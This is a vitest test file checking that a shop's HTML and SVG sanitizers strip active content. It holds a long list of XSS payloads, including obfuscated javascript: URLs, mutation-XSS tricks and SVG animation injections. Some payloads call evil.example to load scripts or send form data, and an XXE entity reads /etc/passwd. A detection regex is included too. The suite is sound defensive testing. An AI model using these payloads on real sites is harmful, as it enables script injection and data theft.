import { describe, expect, it } from 'vitest';
import { cleanHtml } from './markup.ts';
import { cleanSvg } from './svg.ts';

/** Matches tags, handlers and addresses that could run code. */
const ACTIVE =
  /<\s*\/?\s*(script|iframe|object|embed|form|input|button|style|link|meta|base|math|foreignobject|animate|set|image|audio|video|handler)|<[^>]*\s(on\w+|style|srcdoc|formaction)\s*=|javascript:|vbscript:|data:|https?:\/\/evil|\/\/evil|<!|<\?/i;

const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>@import "//evil.example"</style>',
  '<p style="background:url(//evil.example)">x</p>',
  '<form action="https://evil.example"><input name=card></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<a href="https://sahna.example" onmouseover=alert(1)>x',
  '<<script>alert(1)//<</script>',
];

const SVG_PAYLOADS = [
  '<svg><script>alert(1)</script></svg>',
  '<svg><SCRIPT>alert(1)</SCRIPT></svg>',
  '<svg onload="alert(1)"></svg>',
  '<svg><foreignObject><body onload="alert(1)"/></foreignObject></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/x.svg#a"/></svg>',
  '<svg><use xlink:href="data:image/svg+xml;base64,AAAA#a"/></svg>',
  '<svg><image href="https://evil.example/pixel.png"/></svg>',
  '<svg><rect fill="url(https://evil.example/x#a)"/></svg>',
  '<svg><rect fill="u\\72l(https://evil.example/x)"/></svg>',
  '<svg><rect fill="image-set(\'https://evil.example/x\')"/></svg>',
  '<svg><style>@import url(https://evil.example);</style></svg>',
  '<svg><rect style="fill:url(https://evil.example)"/></svg>',
  '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<?xml-stylesheet href="https://evil.example/x.css"?><svg></svg>',
  '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg><text>&x;</text></svg>',
  '<svg><title><![CDATA[<script>alert(1)</script>]]></title></svg>',
  '<svg><desc><iframe src="https://evil.example"/></desc></svg>',
  '<svg xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></svg>',
  '<svg><rect fill="url(#a) url(https://evil.example/x)"/></svg>',
  '<svg><rect fill="URL( \'https://evil.example/x\' )"/></svg>',
  '<svg><rect filter="url(data:image/svg+xml,evil#a)" mask="url(//evil.example/x#a)"/></svg>',
  '<svg><rect fill="expression(alert(1))"/></svg>',
  '<svg><rect fill="var(--a, url(https://evil.example))"/></svg>',
  '<svg><use xlink:href="https://evil.example/x.svg#a"/></svg>',
  '<svg><use href="&#106;avascript:alert(1)"/></svg>',
  '<svg><animateTransform attributeName="transform" onbegin="alert(1)"/></svg>',
  '<svg><animate attributeName="xlink:href" to="data:image/svg+xml,evil"/></svg>',
  '<svg><animateMotion path="M0 0" onend="alert(1)"/></svg>',
  '<svg><discard begin="0s" onbegin="alert(1)"/></svg>',
  '<svg><handler type="application/ecmascript">alert(1)</handler></svg>',
  '<svg><feImage href="https://evil.example/x.png"/></svg>',
  '<svg><filter id="f"><feImage xlink:href="data:image/png;base64,AAAA"/></filter></svg>',
  '<svg><video src="https://evil.example/x.mp4"/><audio href="data:audio/mp3,x"/></svg>',
  '<svg><iframe src="javascript:alert(1)"/><embed src="//evil.example"/></svg>',
  '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:script>alert(1)</svg:script></svg:svg>',
  '<svg><text font-family="x; background: url(https://evil.example)">x</text></svg>',
  '<svg><g id="x" class="y" tabindex="0" onfocus="alert(1)" autofocus=""/></svg>',
  '<svg><a href="https://evil.example" target="_top"><rect/></a></svg>',
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><svg><text>&lol2;</text></svg>',
  '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.example/svg.dtd"><svg></svg>',
];

describe('HTML of descriptions', () => {
  it.each(HTML_PAYLOADS)('loses active content: %s', (payload) => {
    expect(cleanHtml(payload)).not.toMatch(ACTIVE);
  });

  it('keeps its meaning, and links open without access to the shop’s window', () => {
    expect(
      cleanHtml('<p>A <em>fine</em> evening, <a href="https://sahna.example">more</a></p><ul><li>one</li></ul>'),
    ).toBe(
      '<p>A <em>fine</em> evening, <a href="https://sahna.example" rel="noopener noreferrer">more</a></p><ul><li>one</li></ul>',
    );
  });

  it.each([...HTML_PAYLOADS, '<p>5 < 6 & "so" on</p>', '<p>unclosed <b>bold', 'a&nbsp;b &amp; c'])(
    'does not change when cleaned again: %s',
    (html) => {
      expect(cleanHtml(cleanHtml(html))).toBe(cleanHtml(html));
    },
  );
});

describe('SVG of pictures and plans', () => {
  it.each(SVG_PAYLOADS)('loses active content: %s', (payload) => {
    expect(cleanSvg(payload)).not.toMatch(ACTIVE);
  });

  it('keeps the drawn shapes', () => {
    const drawing =
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 3 4"><defs><linearGradient id="sky"><stop offset="0" stop-color="rgb(1, 2, 3)"></stop></linearGradient></defs>' +
      '<g transform="translate(1 2) rotate(45)"><path d="M0 0h3" fill="url(#sky)"></path><use href="#sky"></use><text x="1">Сахна &amp; 舞台</text></g></svg>';
    expect(cleanSvg(drawing)).toBe(drawing);
  });

  it('is empty if it is nested too deep, before that takes minutes', () => {
    const nest = (levels: number) => `<svg>${'<g>'.repeat(levels)}${'</g>'.repeat(levels)}</svg>`;
    expect(cleanSvg(nest(200))).toBe(nest(200));
    expect([nest(250), nest(1_000_000), '<x>'.repeat(1_000_000)].map(cleanSvg)).toEqual(['', '', '']);
  });

  it.each(SVG_PAYLOADS)('does not change when cleaned again: %s', (svg) => {
    expect(cleanSvg(cleanSvg(svg))).toBe(cleanSvg(svg));
  });
});
